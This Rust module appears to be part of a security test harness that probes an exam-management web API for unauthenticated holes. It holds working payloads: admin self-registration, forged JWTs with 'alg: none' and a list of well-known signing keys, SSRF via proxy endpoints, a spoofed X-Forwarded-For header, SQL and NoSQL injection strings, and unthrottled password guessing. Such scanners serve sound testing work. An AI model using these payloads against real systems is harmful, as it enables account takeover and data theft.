//! What somebody can do who has no account at all.

use std::time::Duration;

use anyhow::Result;
use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use reqwest::{Method, StatusCode, header};
use serde_json::{Value, json};
use tokio::{net::TcpListener, time::timeout};

use super::{Answer, Found, Target, shortened};

/// Wrong passwords in a row for one address.
const TRIES: usize = 60;

pub(super) async fn attack(target: &Target, found: &mut Vec<Found>) -> Result<()> {
    let mut tried = |hole, tried, got| found.push(Found { hole, tried, got });
    tried(
        "O4",
        "make oneself an administrator",
        register(target).await?,
    );
    tried(
        "O5",
        "come in with a token that nobody signed",
        unsigned(target).await?,
    );
    tried(
        "O5",
        "come in with a token signed by a key that everybody knows",
        known_key(target).await?,
    );
    tried(
        "O10",
        "have the server fetch an address",
        proxied(target).await?,
    );
    tried(
        "O11",
        "read answers from a page of another site",
        other_site(target).await?,
    );
    let status = target.get(None, "/api/database/status").await?;
    tried("O12", "read where the database is", status.if_done());
    let check_in = json!({ "indexNumber": "AUT/CSE/22/0001", "examEntryId": 1, "studentId": 1001 });
    let mut got = None;
    for path in [
        "/api/public/exam/check-in",
        "/api/public/exam/validate-index",
    ] {
        got = got.or(target.post(None, path, &check_in).await?.if_done());
    }
    tried("O20", "mark a candidate present without an account", got);
    let mut got = None;
    for path in ["/api/qr/student/1001", "/api/qr-codes/student/1001"] {
        got = got.or(target.get(None, path).await?.if_done());
    }
    tried("O21", "read who a student is", got);
    tried(
        "O29",
        "find passwords on the way in",
        passwords(target).await?,
    );
    tried(
        "O30",
        "have the server tell its inside",
        inside(target).await?,
    );
    tried("O9", "guess passwords without end", guessed(target).await?);
    Ok(())
}

async fn register(target: &Target) -> Result<Option<String>> {
    let body = json!({
        "email": "mallory@example.org", "password": "Mallory-1234", "firstName": "Mal",
        "lastName": "Lory", "role": "ADMIN", "institutionId": 1,
    });
    Ok(target
        .post(None, "/api/auth/register", &body)
        .await?
        .if_done())
}

/// Who a forged token says to be: an administrator.
fn claims() -> Value {
    json!({
        "id": 1, "userId": 1, "email": "a@b", "name": "A", "primaryRole": "ADMIN",
        "role": "ADMIN", "roles": ["ADMIN"], "institutionId": 1, "permissions": {},
        "iss": "elms-system", "aud": "elms-users", "sid": "00000000-0000-0000-0000-000000000000",
        "typ": "access", "type": "access", "iat": 1_700_000_000, "exp": 4_000_000_000_u64,
    })
}

/// `alg: none`, and a signature that is empty.
async fn unsigned(target: &Target) -> Result<Option<String>> {
    let claims = claims();
    for algorithm in ["none", "HS256"] {
        let head = json!({ "alg": algorithm, "typ": "JWT" });
        let parts = [head, claims.clone()].map(|part| URL_SAFE_NO_PAD.encode(part.to_string()));
        let token = format!("{}.", parts.join("."));
        let answer = target.get(Some(&token), "/api/auth/profile").await?;
        if let Some(got) = answer.if_done() {
            return Ok(Some(got));
        }
    }
    Ok(None)
}

/// Keys that stand in templates and in public sources, the original's among them.
const KNOWN_KEYS: [&str; 8] = [
    "your-super-secret-jwt-key-change-this-in-production",
    "your-256-bit-secret",
    "your-secret-key",
    "secret",
    "changeme",
    "elms-secret",
    "jwt-secret",
    "",
];

async fn known_key(target: &Target) -> Result<Option<String>> {
    for key in KNOWN_KEYS {
        let key = jsonwebtoken::EncodingKey::from_secret(key.as_bytes());
        let token = jsonwebtoken::encode(&jsonwebtoken::Header::default(), &claims(), &key)?;
        let answer = target.get(Some(&token), "/api/auth/profile").await?;
        if let Some(got) = answer.if_done() {
            return Ok(Some(got));
        }
    }
    Ok(None)
}

/// Listens, and names itself to the server: whoever comes was sent by it.
async fn proxied(target: &Target) -> Result<Option<String>> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let here = format!("http://{}/", listener.local_addr()?);
    for path in [
        "/api/proxy",
        "/proxy",
        "/api/image-proxy",
        "/api/proxy-image",
    ] {
        for name in ["url", "target"] {
            let path = format!("{path}?{name}={here}");
            let asked = timeout(Duration::from_secs(1), target.get(None, &path));
            let (came, _) = tokio::join!(
                timeout(Duration::from_millis(150), listener.accept()),
                asked
            );
            if came.is_ok() {
                return Ok(Some(format!("it came to {here} by {path}")));
            }
        }
    }
    Ok(None)
}

async fn other_site(target: &Target) -> Result<Option<String>> {
    let url = format!("{}/health", target.url);
    let evil = "https://evil.example";
    let request = target.http.get(url).header(header::ORIGIN, evil);
    let response = request.send().await?;
    let allowed = response.headers().get(header::ACCESS_CONTROL_ALLOW_ORIGIN);
    let allowed = allowed.and_then(|value| value.to_str().ok());
    let got = allowed.filter(|value| *value == "*" || *value == evil);
    Ok(got.map(|value| format!("access-control-allow-origin: {value}")))
}

async fn passwords(target: &Target) -> Result<Option<String>> {
    let page = target.get(None, "/").await?;
    let shows = page.status.is_success() && page.text.to_lowercase().contains("password");
    if shows {
        return Ok(Some(shortened(&page.text)));
    }
    // As if it came from elsewhere: the demo's own machine may see them.
    let url = format!("{}/api/demo/accounts", target.url);
    let request = target
        .http
        .get(url)
        .header("x-forwarded-for", "203.0.113.9");
    let response = request.send().await?;
    let told = response.status().is_success();
    Ok(told.then(|| "the demo accounts with their passwords".to_owned()))
}

/// Words that only the inside of a server knows.
const INSIDE: [&str; 8] = [
    "prisma",
    "sqlite",
    "select ",
    "node_modules",
    "panicked",
    "stack",
    "/src/",
    "postgres",
];

async fn inside(target: &Target) -> Result<Option<String>> {
    let strange: [(Method, &str, Value); 5] = [
        (
            Method::POST,
            "/api/auth/login",
            json!({ "email": { "$ne": null }, "password": 7 }),
        ),
        (
            Method::POST,
            "/api/auth/refresh",
            json!({ "refreshToken": ["'"] }),
        ),
        (Method::GET, "/api/incidents/%27%20OR%201=1", Value::Null),
        (
            Method::GET,
            "/api/incidents?sortBy=password%3B--&limit=-1",
            Value::Null,
        ),
        (Method::POST, "/api/incidents", json!([[[[]]]])),
    ];
    for (method, path, body) in strange {
        let answer = target.ask(None, (method, path), &body).await?;
        if let Some(got) = told(&answer) {
            return Ok(Some(got));
        }
    }
    Ok(None)
}

fn told(answer: &Answer) -> Option<String> {
    let text = answer.text.to_lowercase();
    let word = INSIDE.into_iter().find(|word| text.contains(word));
    let broken = answer.status == StatusCode::INTERNAL_SERVER_ERROR;
    let by = answer.headers.contains_key("x-powered-by");
    (word.is_some() || broken || by).then(|| format!("{} {}", answer.status, shortened(&text)))
}

async fn guessed(target: &Target) -> Result<Option<String>> {
    let body = json!({ "email": "mallory@example.org", "password": "wrong" });
    for _ in 0..TRIES {
        let answer = target.post(None, "/api/auth/login", &body).await?;
        if answer.status == StatusCode::TOO_MANY_REQUESTS {
            return Ok(None);
        }
    }
    Ok(Some(format!("{TRIES} tries in a row were answered")))
}
